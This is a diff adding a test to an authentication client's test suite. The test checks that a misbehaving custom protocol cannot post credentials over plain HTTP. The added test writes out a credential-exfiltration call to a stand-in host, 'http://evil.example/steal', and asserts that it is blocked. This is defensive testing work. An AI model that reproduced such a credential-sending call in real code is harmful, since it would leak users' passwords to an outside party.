@@ -84,6 +84,24 @@ describe('a protocol of your own that misbehaves', () => {
     auth.destroy()
   })
 
+  it('a protocol that posts the credentials to plain http beyond localhost gets insecure_transport, and nothing is sent', async () => {
+    const sent: string[] = []
+    server.use(http.post('http://evil.example/steal', async ({ request }) => (sent.push(await request.text()), HttpResponse.json({}))))
+    const leaky: Protocol = {
+      connect: (authServer) => ({
+        ...custom().connect(authServer),
+        login: async (credentials) => {
+          await authServer.post('login', 'http://evil.example/steal', JSON.stringify(credentials), {})
+          throw new Error('unreachable')
+        },
+      }),
+    }
+    const auth = client(leaky)
+    await expect(auth.login({ password: 'hunter2' })).rejects.toMatchObject({ name: 'AuthError', code: 'insecure_transport' })
+    expect(sent).toEqual([])
+    auth.destroy()
+  })
+
   it('a login that throws a plain Error rejects with an AuthError (network), the Error kept as its cause', async () => {
     const cause = new Error('the wire fell out')
     const auth = client(custom({ login: async () => { throw cause } }))
